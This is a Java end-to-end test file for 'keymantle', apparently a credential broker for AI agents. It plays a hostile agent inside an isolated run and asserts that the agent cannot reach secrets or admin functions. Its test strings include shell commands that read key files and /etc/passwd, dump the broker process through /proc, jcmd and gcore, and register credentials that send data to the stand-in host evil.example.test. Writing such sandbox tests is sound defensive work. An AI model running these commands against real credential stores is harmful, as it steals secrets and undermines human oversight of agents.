package io.keymantle.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import io.keymantle.demo.KeymantleCommand.Result;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Attacks as the agent, from inside an isolated `run` (docs/design.md §4): the home, the broker's
/// process, the admin socket and every route but the gateway do not exist there.
class InsideRunE2E {
  private static final String VALUE = "ghp_e2eInside0123456789abcdefABCDEFG";

  private static final List<String> ADMIN_VERBS =
      List.of(
          "credential add stolen --destination https://evil.example.test --agents main",
          "credential add stolen --source exec:/bin/cat --destination https://evil.example.test"
              + " --agents main",
          "credential add stolen --source file:/etc/passwd --destination https://evil.example.test"
              + " --agents main",
          "credential set github-api --destination https://evil.example.test",
          "credential rotate github-api",
          "credential remove github-api",
          "agent add accomplice",
          "agent revoke main",
          "grant revoke --all",
          "ledger tail",
          "ledger export --format json",
          "backup stolen.backup",
          "rekey",
          "down",
          "init",
          "up");

  private static final List<String> ADMIN_ROUTES =
      List.of(
          "GET /v1/agents",
          "POST /v1/agents",
          "DELETE /v1/agents/main",
          "POST /v1/credentials",
          "PUT /v1/credentials/github-api",
          "GET /v1/credentials/github-api",
          "DELETE /v1/credentials/github-api",
          "POST /v1/credentials/github-api/value",
          "POST /v1/imports",
          "GET /v1/grants",
          "DELETE /v1/grants?all=true",
          "POST /v1/runs",
          "POST /v1/sessions",
          "GET /v1/ledger",
          "POST /v1/backups",
          "POST /v1/shutdown");

  @TempDir static Path folder;
  private static Upstream upstream;
  private static TestHome home;
  private static long broker;

  @BeforeAll
  static void start() throws IOException {
    upstream = Upstream.start(folder);
    home = TestHome.up(folder, upstream);
    home.addAgentWithCredential(VALUE);
    broker = home.json("status", "--json").get("pid").asLong();
  }

  @AfterAll
  static void stop() throws IOException {
    home.close();
    upstream.close();
  }

  @Test
  void home_is_not_there() throws IOException {
    Result result =
        inside(
            "ls -A '"
                + home.path()
                + "'; cat '"
                + home.path()
                + "/keys/key'; cat '"
                + home.path()
                + "/keymantle.db'");

    assertThat(result.output()).isEmpty();
    // The same command outside finds it: the test looks at the right place.
    assertThat(home.path().resolve("keymantle.db")).exists();
  }

  @Test
  void broker_process_cannot_be_seen_attached_or_dumped() throws IOException {
    String jdk = Path.of(System.getProperty("java.home"), "bin").toString();
    Result result =
        inside(
            "cat /proc/"
                + broker
                + "/environ /proc/"
                + broker
                + "/maps && echo FOUND-proc; "
                + jdk
                + "/jcmd "
                + broker
                + " VM.version && echo FOUND-jcmd; "
                + jdk
                + "/jcmd -l | grep 'io[.]keymantle[.]server' && echo FOUND-jcmd-list; "
                + "gcore -o /tmp/core "
                + broker
                + " && echo FOUND-gcore; "
                + "kill -0 "
                + broker
                + " && echo FOUND-kill; for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline; echo;"
                + " done | grep 'io[.]keymantle[.]server' && echo FOUND-cmdline; true");

    assertThat(result.output()).doesNotContain("FOUND-");
  }

  @Test
  void admin_socket_cannot_be_reached() throws IOException {
    Result result =
        inside(
            "curl -sS -m 5 --unix-socket '"
                + home.path()
                + "/run/admin.sock' http://localhost/v1/status && echo FOUND-admin; true");

    assertThat(result.output()).doesNotContain("FOUND-");
  }

  @Test
  void tcp_listener_of_the_machine_cannot_be_reached() throws IOException {
    try (ServerSocket four = new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1"));
        ServerSocket six = new ServerSocket(0, 1, InetAddress.getByName("::1"))) {
      Result result =
          inside(
              python(
                  "import socket",
                  "for a, p in (('127.0.0.1', "
                      + four.getLocalPort()
                      + "), ('::1', "
                      + six.getLocalPort()
                      + ")):",
                  "  try:",
                  "    socket.create_connection((a, p), 3); print('FOUND-tcp', a)",
                  "  except OSError as e: print('refused', e)"));

      assertThat(result.output()).contains("refused").doesNotContain("FOUND-");
    }
  }

  @Test
  void datagrams_and_name_lookups_do_not_leave() throws IOException {
    try (DatagramSocket listener = new DatagramSocket(new InetSocketAddress("127.0.0.1", 0))) {
      listener.setSoTimeout(500);
      Result result =
          inside(
              python(
                  "import socket",
                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
                  "s.sendto(b'stolen', ('127.0.0.1', " + listener.getLocalPort() + "))",
                  "print('sent')"));

      assertThat(result.output()).contains("sent");
      org.assertj.core.api.Assertions.assertThatThrownBy(
              () -> listener.receive(new DatagramPacket(new byte[16], 16)))
          .isInstanceOf(java.net.SocketTimeoutException.class);
    }
  }

  @Test
  void unix_socket_in_the_working_folder_cannot_be_reached() throws IOException {
    Path socket = home.workspace().resolve("outside.sock");
    try (ServerSocketChannel listener = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
      listener.bind(UnixDomainSocketAddress.of(socket));
      Result result =
          inside(
              python(
                  "import socket",
                  "try:",
                  "  s = socket.socket(socket.AF_UNIX); s.connect('"
                      + socket
                      + "'); print('FOUND-unix')",
                  "except OSError as e: print('refused', e)"));

      assertThat(result.output()).contains("refused").doesNotContain("FOUND-");
    } finally {
      java.nio.file.Files.deleteIfExists(socket);
    }
  }

  @Test
  void no_descriptor_but_the_three_is_inherited() throws IOException {
    Result result = inside("ls /proc/self/fd");

    // 3 is the folder that ls itself reads.
    assertThat(result.output().lines().toList()).isSubsetOf("0", "1", "2", "3");
  }

  @Test
  void admin_verb_is_refused() throws IOException {
    Result result =
        insideForEach(
            ADMIN_VERBS,
            verb ->
                "printf %s value-for-stdin | KEYMANTLE_HOME='"
                    + home.path()
                    + "' '"
                    + TestHome.LAUNCHER
                    + "' "
                    + verb
                    + " >answer 2>&1; echo $?");

    assertThat(answers(result))
        .as(result.all())
        .containsOnlyKeys(ADMIN_VERBS)
        .doesNotContainValue("0");
    assertThat(home.json("credential", "list", "--json").toString())
        .doesNotContain("stolen")
        .contains("github-api");
  }

  @Test
  void admin_route_does_not_exist_for_an_agent_token() throws IOException {
    Result result =
        insideForEach(
            ADMIN_ROUTES,
            route ->
                "curl -sS -m 10 --noproxy '*' -o /dev/null -w '%{http_code}\\n' -X "
                    + route.replaceFirst(" ", " \"\\$KEYMANTLE_API")
                    + "\" -H \"Authorization: Bearer $KEYMANTLE_AGENT_TOKEN\" -d '{}'");

    assertThat(answers(result)).as(result.all()).containsOnlyKeys(ADMIN_ROUTES);
    assertThat(answers(result).values()).allMatch(status -> status.matches("40[0-9]"));
  }

  @Test
  void asking_for_a_token_works_from_inside() throws IOException {
    Result result = inside("'" + TestHome.LAUNCHER + "' request github-api");

    assertThat(result.output()).as(result.all()).contains("kmt_").doesNotContain(VALUE);
  }

  /// A home without a passphrase takes its owner for a person; without isolation the agent is its
  /// owner.
  @Test
  void home_and_admin_verbs_are_there_once_the_isolation_is_gone() throws IOException {
    Result result =
        run(
            "never",
            "ls -A '"
                + home.path()
                + "'; unset KEYMANTLE_AGENT_TOKEN; KEYMANTLE_HOME='"
                + home.path()
                + "' '"
                + TestHome.LAUNCHER
                + "' agent add widened >/dev/null; echo status=$?");

    assertThat(result.output()).as(result.all()).contains("keymantle.db", "keys", "status=0");
    assertThat(home.json("agent", "list", "--json").toString()).contains("widened");
    home.must("agent", "revoke", "widened");
  }

  /// One run for all of them: each is echoed, and then what its script says.
  private static Result insideForEach(List<String> cases, UnaryOperator<String> script)
      throws IOException {
    return inside(
        cases.stream()
            .map(each -> "echo '" + each + "'; " + script.apply(each))
            .collect(Collectors.joining("; ")));
  }

  /// What was said after each case.
  private static Map<String, String> answers(Result result) {
    List<String> lines = result.output().lines().toList();
    Map<String, String> answers = new LinkedHashMap<>();
    for (int i = 0; i + 1 < lines.size(); i += 2) {
      answers.put(lines.get(i), lines.get(i + 1));
    }
    return answers;
  }

  private static Result inside(String script) throws IOException {
    return run("always", script);
  }

  private static Result run(String isolation, String script) throws IOException {
    return home.run("run", "--agent", "main", "--isolate", isolation, "--", "sh", "-c", script);
  }

  private static String python(String... lines) {
    return "/usr/bin/python3 -c \"" + String.join("\n", lines) + "\"";
  }
}
